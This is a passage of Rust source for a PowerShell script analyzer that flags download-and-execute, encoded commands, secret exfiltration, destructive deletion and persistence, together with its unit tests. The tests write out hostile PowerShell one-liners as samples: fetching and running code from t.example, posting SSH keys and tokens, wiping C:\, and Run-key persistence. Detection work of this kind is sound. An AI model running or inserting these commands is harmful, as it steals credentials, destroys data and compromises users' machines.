            "readalltext" | "readallbytes" | "readalllines" if recv_text.contains("file") => {
                let mut t = all.clone();
                t.add(&self.file_taint(arg_text(0).as_deref()));
                Val::taint(t)
            }
            "writealltext" | "appendalltext" | "writealllines" | "appendalllines"
                if recv_text.contains("file") =>
            {
                let what = args.get(1).cloned().unwrap_or_default();
                self.written(n, arg_text(0).as_deref(), &what, None);
                Val::default()
            }
            "getenvironmentvariable" => match arg_text(0) {
                Some(name) => env_var(&name),
                None => Val::default(),
            },
            "getenvironmentvariables" => Val::taint(Taint::secret(taint::ENVIRONMENT)),
            "gethostaddresses" | "gethostentry" | "resolve" | "gethostbyname"
                if recv_text.contains("dns") =>
            {
                if arg_taint(0).has(SECRET) {
                    self.hit(&EXF021, n);
                }
                Val::taint(all)
            }
            "combine" if recv_text.contains("path") => {
                let parts: Option<Vec<String>> = args.iter().map(|a| a.text.clone()).collect();
                Val {
                    taint: all,
                    text: parts.map(|p| p.join("\\")),
                    ..Val::default()
                }
            }
            _ => Val {
                taint: all,
                web_client: rv.web_client,
                ..Val::default()
            },
        }
    }
}

/// Nodes that only wrap their one child (the grammar's precedence levels).
fn wrapper(kind: &str) -> bool {
    !matches!(
        kind,
        "pipeline"
            | "command"
            | "string_literal"
            | "expandable_string_literal"
            | "expandable_here_string_literal"
            | "invokation_expression"
            | "member_access"
            | "assignment_expression"
            | "function_statement"
            | "foreach_statement"
            | "variable"
            | "generic_token"
            | "redirection"
            | "redirections"
    )
}

fn first_child<'t>(n: Node<'t>, kind: &str) -> Option<Node<'t>> {
    let mut c = n.walk();
    let found = n.named_children(&mut c).find(|x| x.kind() == kind);
    found
}

/// The first variable inside an assignment's left side (`$x`, `[string]$x`, `$script:x`).
fn find_variable(n: Node) -> Option<Node> {
    let mut n = n;
    for _ in 0..64 {
        if n.kind() == "variable" {
            return Some(n);
        }
        n = n.named_child(n.named_child_count().checked_sub(1)?)?;
    }
    None
}

/// A variable's name: lower case, without `$`, braces and the scope (`$script:x` is `x`;
/// `$env:X` keeps its drive).
fn var_name(raw: &str) -> String {
    let r = raw.trim_start_matches(['$', '@']);
    let r = r.trim_start_matches('{').trim_end_matches('}');
    let lower = r.to_ascii_lowercase();
    for scope in ["global:", "local:", "script:", "private:", "using:"] {
        if let Some(rest) = lower.strip_prefix(scope) {
            return rest.to_owned();
        }
    }
    lower
}

/// Backtick escapes of a double-quoted string.
fn unbacktick(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '`' {
            match chars.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some('r') => out.push('\r'),
                Some('0') => out.push('\0'),
                Some(o) => out.push(o),
                None => {}
            }
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str) -> Vec<&'static str> {
        let mut out = Vec::new();
        analyze(text, &mut out);
        let mut ids: Vec<&'static str> = out.iter().map(|h| h.rule.id).collect();
        ids.sort();
        ids.dedup();
        ids
    }

    /// Prints the syntax tree of `$PS_DUMP`: `PS_DUMP='...' cargo test dump -- --ignored --nocapture`.
    #[test]
    #[ignore]
    fn dump() {
        if let Ok(code) = std::env::var("PS_DUMP") {
            let t = parse(&code).unwrap();
            eprintln!("{}", t.root_node().to_sexp());
        }
    }

    #[test]
    fn downloads_run_as_code() {
        for code in [
            "iwr https://t.example/i.ps1 | iex",
            "IEX (New-Object Net.WebClient).DownloadString('https://t.example/i')",
            "iex (irm https://t.example/i)",
            "$c = Invoke-WebRequest -Uri https://t.example/i -UseBasicParsing\nInvoke-Expression $c.Content",
            "$s = (iwr 'https://t.example/i').Content\n& ([scriptblock]::Create($s))",
            "Invoke-RestMethod https://t.example/i | Invoke-Expression",
            "$wc = New-Object System.Net.WebClient\n$p = $wc.DownloadString(\"https://t.example/p\")\niex $p",
            "powershell -NoProfile -Command \"iwr https://t.example/i | iex\"",
        ] {
            assert_eq!(rules(code), vec!["SUP020"], "{code}");
        }
        assert!(
            rules("iwr https://t.example/f.zip -OutFile f.zip\nExpand-Archive f.zip").is_empty()
        );
    }

    #[test]
    fn decoded_and_encoded_code() {
        for code in [
            "$b = 'SQBFAFgA'\niex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b)))",
            "powershell.exe -NoP -enc SQBFAFgAIAAoAGkAdwByACkA",
            "pwsh -EncodedCommand SQBFAFgA",
            "Get-Content C:\\Users\\Public\\.t | Invoke-Expression",
        ] {
            assert_eq!(rules(code), vec!["EXE020"], "{code}");
        }
        assert!(rules(
            "$x = [Convert]::FromBase64String($b)\n[IO.File]::WriteAllBytes('out.bin', $x)"
        )
        .is_empty());
        assert!(rules("Get-Content .\\lib.ps1 | Out-String | iex").is_empty());
    }

    #[test]
    fn secrets_sent_away() {
        for code in [
            "Invoke-WebRequest -Uri https://t.example/c -Method Post -Body $env:GITHUB_TOKEN",
            "$k = Get-Content ~/.ssh/id_rsa -Raw\nirm -Uri 'https://t.example/k' -Method POST -Body $k",
            "$c = Get-Content \"$env:USERPROFILE\\.aws\\credentials\"\n(New-Object Net.WebClient).UploadString('https://t.example/u', $c)",
            "iwr \"https://t.example/?t=$env:NPM_TOKEN\"",
            "function Send($d) { Invoke-RestMethod -Uri https://t.example/s -Body $d }\nSend $env:OPENAI_API_KEY",
        ] {
            assert_eq!(rules(code), vec!["EXF020"], "{code}");
        }
        assert_eq!(
            rules("Resolve-DnsName \"$env:AWS_SECRET_ACCESS_KEY.t.example\""),
            vec!["EXF021"]
        );
        for code in [
            "Invoke-RestMethod -Uri https://api.github.com/user -Headers @{Authorization = \"token $env:GITHUB_TOKEN\"}",
            "iwr -Uri http://127.0.0.1:8080/hook -Body $env:API_TOKEN",
            "irm -Uri \"$base/v1\" -Headers @{ 'x-api-key' = $env:API_KEY }",
            "iwr https://t.example/data.json -OutFile data.json",
        ] {
            assert!(rules(code).is_empty(), "{code}: {:?}", rules(code));
        }
    }

    #[test]
    fn destructive_and_persistent() {
        for code in [
            "Remove-Item -Recurse -Force C:\\",
            "rm -r -fo $env:USERPROFILE",
            "Remove-Item -Path ~ -Recurse",
            "ri $HOME\\* -rec -force",
            "del -Recurse 'C:\\Windows\\System32'",
        ] {
            assert_eq!(rules(code), vec!["DES020"], "{code}");
        }
        for code in [
            "Remove-Item -Recurse -Force .\\build",
            "Remove-Item C:\\",
            "rm -r $env:TEMP\\x",
        ] {
            assert!(rules(code).is_empty(), "{code}");
        }
        assert_eq!(
            rules("Format-Volume -DriveLetter D -FileSystem NTFS"),
            vec!["DES021"]
        );
        assert_eq!(
            rules("Get-Disk 1 | Clear-Disk -RemoveData -Confirm:$false"),
            vec!["DES021"]
        );
        for code in [
            "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name U -Value 'C:\\u.exe'",
            "Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce -Name x -Value y",
            "Register-ScheduledTask -TaskName U -Action $a -Trigger $t",
            "schtasks /create /tn U /tr C:\\u.exe /sc onlogon",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v U /d C:\\u.exe",
        ] {
            assert_eq!(rules(code), vec!["PER020"], "{code}");
        }
        assert_eq!(
            rules("Add-Content $PROFILE 'iex (irm https://t.example/p)'"),
            vec!["PER022"]
        );
        assert_eq!(
            rules("'IEX (New-Object Net.WebClient).DownloadString(\"https://t.example\")' >> $PROFILE"),
            vec!["PER022"]
        );
        assert!(rules("Add-Content $PROFILE 'Import-Module posh-git'").is_empty());
        assert!(
            rules("Get-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")
                .is_empty()
        );
    }

    #[test]
    fn hostile_input_is_bounded() {
        let _ = rules(&format!(
            "iex {}1{}",
            "(".repeat(100_000),
            ")".repeat(100_000)
        ));
        let _ = rules(&"$a = $a + $a\n".repeat(5_000));
        let _ = rules(&format!("iwr '{}' | iex", "x".repeat(1 << 20)));
        let alphabet = b"({[`'\"$@|&;-iex rm";
        let junk: String = (0..(1 << 20))
            .map(|i| char::from(alphabet[i % alphabet.len()]))
            .collect();
        let _ = rules(&junk);
        let nested = format!(
            "{}iwr x | iex{}",
            "powershell -c \"".repeat(50),
            "\"".repeat(50)
        );
        let _ = rules(&nested);
    }
}
